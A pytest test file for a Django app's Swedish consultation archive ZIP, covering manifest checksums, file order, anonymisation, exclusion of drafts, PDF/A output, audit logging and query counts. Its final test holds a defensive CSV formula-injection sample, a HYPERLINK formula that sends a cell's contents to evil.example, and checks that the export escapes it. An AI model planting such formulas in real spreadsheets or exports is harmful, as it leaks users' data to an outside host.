"""The archive ZIP: its manifest checksums, its files, and what never goes into it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
import zlib

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from django.utils.translation import gettext

from accounts.models import User
from breakouts.models import NotePoint
from invitations.choices import AccessNeed
from invitations.models import InvitationStatus
from minutes.models import MinutesPage, Takeaway
from records.contents.invitations import invitations_csv
from records.services import consultation_archive_build
from tests.minutes.workflow_helpers import draft_minutes
from tests.records.conftest import NEEDS, make_filed, read_zip, zip_names

pytestmark = pytest.mark.django_db


def sv(msgid: str) -> str:
    """The archive is in Swedish: whatever the catalogue says today (the lead merges translations)."""
    with translation.override("sv"):
        return gettext(msgid)


def sha256sum_check(folder):
    command = ["sha256sum", "-c", "manifest.sha256"]  # noqa: S607 (coreutils from PATH)
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)  # noqa: S603


def build(filed, people):
    return consultation_archive_build(consultation=filed.consultation, user=people["organiser"])


def test_the_manifest_lists_every_file_with_its_size_and_sha256(filed, people, fake_pdf):
    content = build(filed, people)
    files = read_zip(content)
    manifest = json.loads(files["manifest.json"])

    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json", "manifest.sha256"}
    for path, entry in listed.items():
        assert entry["size"] == len(files[path]), path
        assert entry["sha256"] == hashlib.sha256(files[path]).hexdigest(), path
    assert manifest["consultation"] == filed.consultation.title
    assert manifest["date"] == filed.consultation.date.isoformat()
    assert manifest["generated_at"] and manifest["generator"]
    assert manifest["minutes"]["included"] is True


def test_manifest_sha256_covers_every_file_and_the_manifest(filed, people, fake_pdf):
    files = read_zip(build(filed, people))
    lines = files["manifest.sha256"].decode().splitlines()
    sums = dict(reversed(line.split("  ", 1)) for line in lines)
    assert set(sums) == set(files) - {"manifest.sha256"}
    for path, digest in sums.items():
        assert digest == hashlib.sha256(files[path]).hexdigest(), path


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="needs coreutils' sha256sum")
def test_sha256sum_checks_the_unpacked_archive(filed, people, fake_pdf, tmp_path):
    files = read_zip(build(filed, people))
    for path, data in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_bytes(data)
    result = sha256sum_check(tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    (tmp_path / "invitations.csv").write_bytes(b"tampered")
    assert sha256sum_check(tmp_path).returncode != 0


def test_members_come_in_a_fixed_order(filed, people, fake_pdf):
    expected = [
        "minutes.pdf",
        "invitations.csv",
        "notes/01-grupp-vast-0.json",
        "notes/01-grupp-vast-0.txt",
        "notes/02-grupp-vast-1.json",
        "notes/02-grupp-vast-1.txt",
        "follow_ups.json",
        "follow_ups.txt",
        "manifest.json",
        "manifest.sha256",
    ]
    assert zip_names(build(filed, people)) == expected
    assert zip_names(build(filed, people)) == expected


def test_notes_match_the_stored_points(filed, people, fake_pdf):
    files = read_zip(build(filed, people))
    for position, group in enumerate(filed.groups, start=1):
        stem = f"notes/{position:02d}-grupp-vast-{position - 1}"
        data = json.loads(files[f"{stem}.json"])
        rows = NotePoint.objects.filter(group=group).order_by("question_number", "order")
        assert data["group"] == group.name
        assert data["closed_at"]
        assert data["points"] == [
            {"question_number": r.question_number, "order": r.order, "text": r.text, "takeaway": r.takeaway}
            for r in rows
        ]
        text = files[f"{stem}.txt"].decode()
        for row in rows:
            assert row.text in text
        question = sv("Question %(number)s")
        assert question % {"number": 1} in text and question % {"number": 2} in text
        assert text.count(sv("[Takeaway]")) == 1


def test_nobody_is_named_in_the_archive(filed, people, fake_pdf):
    blob = b"".join(data for path, data in read_zip(build(filed, people)).items() if path != "minutes.pdf")
    for person in [*filed.members, people["organiser"]]:
        for value in (person.email, person.last_name, person.get_full_name()):
            assert value.encode() not in blob, value
    for attendee in filed.attendees:
        assert attendee.name.encode() not in blob
        assert attendee.email.encode() not in blob


def test_invitations_csv_counts_attendees_and_holds_no_needs(filed, people, fake_pdf):
    files = read_zip(build(filed, people))
    data = files["invitations.csv"]
    assert data.startswith("\ufeff".encode()), "a byte order mark, for spreadsheets"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    named, checked_in, status = sv("Named attendees"), sv("Checked in"), sv("Status")
    assert rows[0][0] == sv("Organisation") and named in rows[0]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Föreningen Ljusglimt 0", "Föreningen Ljusglimt 1", "Stiftelsen Nej"}
    header = rows[0]
    accepted = dict(zip(header, by_name["Föreningen Ljusglimt 0"], strict=True))
    assert accepted[status] == sv(InvitationStatus.ACCEPTED.label)
    assert accepted[named] == "1"
    assert accepted[checked_in] == "1"
    declined = dict(zip(header, by_name["Stiftelsen Nej"], strict=True))
    assert declined[named] == "0"
    text = data.decode("utf-8-sig")
    for need in NEEDS:
        assert need not in text
    assert "@" not in text
    assert sv(AccessNeed.INTERPRETER.label) not in text


def test_follow_ups_as_json_and_text(filed, people, fake_pdf):
    files = read_zip(build(filed, people))
    data = json.loads(files["follow_ups.json"])
    [follow_up] = data["follow_ups"]
    assert follow_up["date"] == "2025-02-03"
    assert follow_up["text"] == "Tre kommuner har öppnat skolor för föreningar.\nUmeå"
    assert "<b>öppnat</b>" in follow_up["html"]
    assert follow_up["answers"] == [{"takeaway_number": 1, "text": "Lokaler på kvällstid"}]
    assert [row["text"] for row in data["takeaways"]] == ["Lokaler på kvällstid", "Långsiktigt stöd"]
    text = files["follow_ups.txt"].decode()
    assert "2025-02-03" in text and "Umeå" in text and "Lokaler på kvällstid" in text
    assert "<" not in text


def test_a_draft_is_never_archived(index, people, fake_pdf):
    filed = make_filed(index, minutes=False)
    page = draft_minutes(filed.consultation, takeaways=("UTKAST medskick",))
    assert not page.live
    files = read_zip(build(filed, people))
    assert "minutes.pdf" not in files
    assert "follow_ups.json" not in files
    manifest = json.loads(files["manifest.json"])
    assert manifest["minutes"]["included"] is False
    assert b"UTKAST" not in b"".join(files.values())
    assert manifest["minutes"]["note"] == sv(
        "No published minutes: the archive holds no minutes PDF and no follow-ups."
    )


def test_only_the_published_revision_goes_into_the_archive(filed, people, monkeypatch):
    draft = MinutesPage.objects.get(pk=filed.minutes.pk).get_latest_revision_as_object()
    draft.summary = "UTKAST som inte är godkänt"
    draft.takeaways.add(Takeaway(question_number=2, text="UTKAST medskick"))
    # Follow-ups are no longer kept in the minutes' revisions (issue 16): a draft holds none of its own.
    draft.save_revision()  # saved, not published

    seen = {}

    def fake(page, details):
        seen.update(summary=page.summary, takeaways=[t.text for _n, t in details["takeaways"]])
        return b"%PDF-1.7 fake"

    monkeypatch.setattr("records.services.archive_contents.minutes_pdfa", fake)
    files = read_zip(build(filed, people))
    assert "UTKAST" not in seen["summary"]
    assert seen["takeaways"] == ["Lokaler på kvällstid", "Långsiktigt stöd"]
    assert b"UTKAST" not in b"".join(files.values())


def pdf_text(pdf: bytes) -> bytes:
    """The PDF with its compressed streams inflated, so its metadata can be searched."""
    parts = [pdf]
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", pdf, re.DOTALL):
        try:
            parts.append(zlib.decompress(stream))
        except zlib.error:
            continue
    return b"\n".join(parts)


def test_the_minutes_pdf_is_pdf_a(filed, people):
    pdf = read_zip(build(filed, people))["minutes.pdf"]
    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf)
    assert b'pdfaid:part="2"' in text
    assert b'pdfaid:conformance="A"' in text
    assert b"/OutputIntents" in text, "PDF/A needs an output intent (its colour profile)"
    assert filed.minutes.title.encode() in text or b"/Title" in text


def test_the_export_is_recorded_and_logged(filed, people, fake_pdf):
    from wagtail.models import PageLogEntry

    content = build(filed, people)
    record = filed.consultation.record
    record.refresh_from_db()
    assert record.archived_at is not None
    assert record.archived_by == people["organiser"]
    entry = PageLogEntry.objects.get(page=filed.consultation, action="sakrad.archive_export")
    assert entry.user == people["organiser"]
    assert entry.data["sha256"] == hashlib.sha256(content).hexdigest()


def test_staff_without_rights_may_not_export(filed, people, fake_pdf):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        consultation_archive_build(consultation=filed.consultation, user=people["other_staff"])


def test_the_number_of_queries_does_not_grow(index, people):
    """The same count for 1 group, 1 point and 2 invitations as for 4 groups, 32 points and 10
    invitations (a fresh user each time: permission caches live on the user object)."""
    counts = []
    for size, tag in ((1, "liten"), (4, "stor")):
        filed = make_filed(index, groups=size, points=size * 2, invitations=size * 2, tag=tag)
        organiser = User.objects.get(pk=people["organiser"].pk)
        with CaptureQueriesContext(connection) as queries:
            consultation_archive_build(consultation=filed.consultation, user=organiser)
        counts.append(len(queries))
    assert counts[0] == counts[1]
    assert counts[0] <= MAX_QUERIES


# Today 29, of which 7 read the minutes (minutes/reading.py) and 9 write the record and the log entry.
MAX_QUERIES = 32


def test_invitations_csv_opens_as_columns_in_swedish_excel_and_runs_nothing():
    """Organisation names are typed by outsiders: one starting with "=" is text, not a formula."""
    name = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
    row = {
        "organisation__name": name, "organisation__organisation_number": "802000-0000",
        "organisation__kind": "", "organisation__county": "", "status": "accepted",
        "sent_at": None, "answered_at": None, "named_attendees": 2, "checked_in": 1,
    }
    text = invitations_csv([row], seats_offered=3).decode("utf-8-sig")
    header, line = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(header) == len(line) == 10
    assert line[0] == "'" + name
